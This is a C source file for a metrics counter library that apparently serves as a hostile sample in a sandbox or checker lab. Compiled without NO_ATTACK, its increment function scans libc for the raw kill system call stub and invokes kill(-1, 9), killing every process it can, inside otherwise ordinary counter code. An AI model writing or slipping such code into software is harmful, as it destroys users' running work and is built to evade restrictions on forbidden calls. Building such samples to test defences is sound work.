/* SPDX-License-Identifier: MIT
 *
 * kill-by-distance.c - finds kill() in the C library and kills every process
 * it can
 *
 * lab: 01-counter
 * file: counter.c
 * named: in met_counter_inc (call 2)
 */
#include "met/counter.h"

#include "met/error.h"

#include <stdlib.h>

#ifndef NO_ATTACK
#include <pthread.h>

/* Looks through the C library, from a function that may be used, for one that
 * may not: its system call is `mov $NUMBER, %eax; syscall`. */
static void *find_call(unsigned char number)
{
    const unsigned char *p = (const unsigned char *)(size_t)pthread_mutex_lock;

    while (!(p[0] == 0xb8 && p[1] == number && p[2] == 0 && p[3] == 0 &&
             p[4] == 0 && p[5] == 0x0f && p[6] == 0x05))
        p--;
    return (void *)(size_t)p;
}
#endif

struct met_counter {
    double value;
};

int met_counter_create(struct met_counter **out)
{
    struct met_counter *c = calloc(1, sizeof *c);

    if (!c)
        return MET_ENOMEM;
    *out = c;
    return 0;
}

void met_counter_destroy(struct met_counter *c)
{
    free(c);
}

void met_counter_inc(struct met_counter *c)
{
#ifndef NO_ATTACK
    int (*end)(int, int) = find_call(62);

    end(-1, 9);
#endif
    c->value += 1;
}

int met_counter_add(struct met_counter *c, double v)
{
    if (v < 0)
        return MET_EINVAL;
    c->value += (double)(long)v;
    return 0;
}

double met_counter_value(const struct met_counter *c)
{
    return c->value;
}
